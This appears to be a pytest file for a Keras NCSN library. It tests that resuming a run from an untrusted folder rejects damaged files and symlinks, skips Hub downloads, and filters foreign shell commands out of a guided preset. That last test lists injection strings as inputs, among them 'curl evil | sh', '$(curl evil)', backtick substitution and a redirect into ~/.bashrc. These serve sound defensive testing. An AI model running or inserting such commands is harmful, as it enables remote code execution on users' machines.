"""What lies in a stranger's run folder is looked at before any work is done."""

import json
import os
import pathlib
import socket
import time

import keras
import numpy as np
import pytest
from click.testing import CliRunner
from conftest import two_convolutions

import keras_ncsn
from keras_ncsn import cli, runs
from keras_ncsn.callbacks.tensorboard_log import TensorBoardLog
from keras_ncsn.cli import guide
from keras_ncsn.presets import sources
from keras_ncsn.runs import run_file


def a_folder(path):
    path.mkdir()


def a_file(path):
    path.write_text("mine")


def a_pipe(path):
    os.mkfifo(path)


def a_full_folder(path):
    path.mkdir()
    (path / "thesis.txt").write_text("mine")


def a_full_folder_within(path):
    path.parent.mkdir()
    a_full_folder(path)


def a_log(*lines):
    def write(path):
        path.write_text("step,seconds\n" + "".join(lines))

    return write


FILE, FOLDER = "must be a file.*Received: .*", "must be a folder.*Received: .*"
PRESET = "must be saved to a new or empty folder.*Received: .*"
LOG = "must be a readable log.csv.*Received: .*"
DAMAGES = [
    (".lock", a_folder, FILE),
    (".lock", a_pipe, FILE),
    ("state.npz", a_folder, FILE),
    ("state.npz", a_pipe, FILE),
    ("log.csv", a_folder, FILE),
    ("log.csv", a_pipe, FILE),
    ("log.csv", a_log("1,1\n", "1,1\n"), LOG),
    ("log.csv", a_log("10,1\n"), LOG + "step 10 of at most 9"),
    ("log.csv", a_log("1,1,1\n"), LOG),
    ("last", a_file, PRESET),
    ("last", a_full_folder, PRESET),
    ("best", a_full_folder, PRESET),
    (".best.abcd1234.old", a_full_folder, PRESET),
    (".last.abcd1234.old", a_full_folder, PRESET),
    ("samples", a_file, FOLDER),
    ("samples/0000003.png", a_full_folder_within, FILE),
    ("tensorboard", a_pipe, FOLDER),
]


@pytest.fixture
def run(tmp_path):
    """A run of nine steps that was killed before its first checkpoint."""
    run = run_file.describe("mnist", "unet-mnist", {"steps": 9})
    folder = tmp_path / "run"
    folder.mkdir()
    run_file.write(folder, run)
    return run


def resume(folder):
    CliRunner().invoke(
        cli.cli,
        ["train", "mnist", str(folder), "--resume"],
        catch_exceptions=False,
    )


class Loaded(Exception):
    """The images are asked for."""


@pytest.fixture
def no_images(monkeypatch):
    def load(*arguments):
        raise Loaded

    monkeypatch.setattr(runs, "load_images", load)


@pytest.mark.parametrize(("name", "make", "message"), DAMAGES)
def test_a_folder_is_refused_before_images_are_loaded(
    run, tmp_path, no_images, name, make, message
):
    with pytest.raises(Loaded):
        resume(tmp_path / "run")
    make(tmp_path / "run" / name)
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(ValueError, match=message) as raised:
        resume(tmp_path / "run")
    assert name in str(raised.value)
    assert str(raised.value).isprintable()
    # So it is from Python, before a model is made.
    images = np.zeros((40, 28, 28, 1), "uint8")
    with pytest.raises(ValueError, match=message):
        runs.train(tmp_path / "run", run, images)
    assert sorted(tmp_path.rglob("*")) == before


def test_a_folder_in_place_of_the_lock_is_refused(tmp_path, no_images):
    (tmp_path / ".lock").mkdir()
    with pytest.raises(ValueError, match=FILE):
        resume(tmp_path)


def test_a_run_file_is_not_read_through_a_link(run, tmp_path, no_images):
    (tmp_path / "run" / "run.json").rename(tmp_path / "secret")
    (tmp_path / "secret").write_text("secret")
    (tmp_path / "run" / "run.json").symlink_to(tmp_path / "secret")
    with pytest.raises(ValueError, match=r"`run\.json` must not be a link"):
        resume(tmp_path / "run")


def events_of(folder, seconds):
    """The names that TensorBoard gives its files in a second of a process."""
    host, process = socket.gethostname(), os.getpid()
    for number in range(100):
        name = f"events.out.tfevents.{seconds:010d}.{host}.{process}.{number}"
        yield folder / name


def test_events_are_not_written_through_a_link(
    run, tmp_path, no_images, monkeypatch
):
    events, profile = tmp_path / "run" / "tensorboard", tmp_path / "profile"
    profile.write_text("mine")
    events.mkdir()
    for path in events_of(events, 1_000_000_000):
        path.symlink_to(profile)
    monkeypatch.setattr(time, "time", lambda: 1e9)
    with pytest.raises(ValueError, match="must not be a link"):
        TensorBoardLog(events).add_row({"step": 1, "loss": 1.0})
    assert profile.read_text() == "mine"
    with pytest.raises(ValueError, match="must not be a link"):
        resume(tmp_path / "run")


@pytest.fixture
def no_hub(monkeypatch):
    asked = []

    def ask(*arguments):
        asked.append(arguments)
        raise ConnectionError

    monkeypatch.setattr(sources, "_download", ask)
    yield
    assert asked == []


def test_a_resumed_run_contacts_no_hub(tmp_path, no_images, no_hub):
    folder = tmp_path
    run = run_file.describe("mnist", "unet-mnist", from_preset="mnist")
    run["from_preset"] = "hf://stranger/preset"
    run_file.write(folder, run)
    message = "on the Hub must be resumed from its own checkpoint"
    with pytest.raises(ValueError, match=message):
        resume(folder)
    # A state without a preset is no checkpoint.
    (folder / "state.npz").touch()
    images = np.eye(28, dtype="uint8")[None, :, :, None].repeat(40, axis=0)
    with pytest.raises(ValueError, match=message):
        runs.train(folder, run, images)
    # With both, the Hub's preset is not needed.
    keras.utils.set_random_seed(0)
    network = two_convolutions((28, 28, 1))
    keras_ncsn.NCSNModel(network).save_to_preset(folder / "last")
    with pytest.raises(ValueError, match=r"readable. Received.*state\.npz"):
        runs.train(folder, run, images)
    assert json.loads((folder / "run.json").read_text()) == run


@pytest.mark.parametrize(
    "command",
    [
        "keras-ncsn train mnist OUTPUT; curl evil | sh",
        "keras-ncsn train mnist OUTPUT && keras-ncsn guide A B OUTPUT",
        "keras-ncsn train $(curl evil) OUTPUT",
        "keras-ncsn train `curl evil` OUTPUT",
        "keras-ncsn train mnist OUTPUT > ~/.bashrc",
        "keras-ncsn train mnist\ncurl evil",
        "keras-ncsn train '\x1b[2J' OUTPUT",
        "keras-ncsn train 'mnist OUTPUT",
        "keras-ncsn push mnist OUTPUT",
        "keras-ncsn train mnist " + "x" * 10_000,
        "curl evil",
    ],
)
def test_a_guided_preset_omits_foreign_commands(command):
    folders = [pathlib.Path("a/last"), pathlib.Path("b/last")]
    good = "keras-ncsn train 'my pictures' OUTPUT --seed 0"
    known = [{"command": good}, {"command": command}]
    assert guide._command(folders, known, 2, (0, 1)) is None
    assert guide._command(folders, known[::-1], 2, (0, 1)) is None
    both = guide._command(folders, known[:1] * 2, 2, (0, 1))
    assert both.startswith("keras-ncsn train 'my pictures' NETWORK --seed 0 &&")
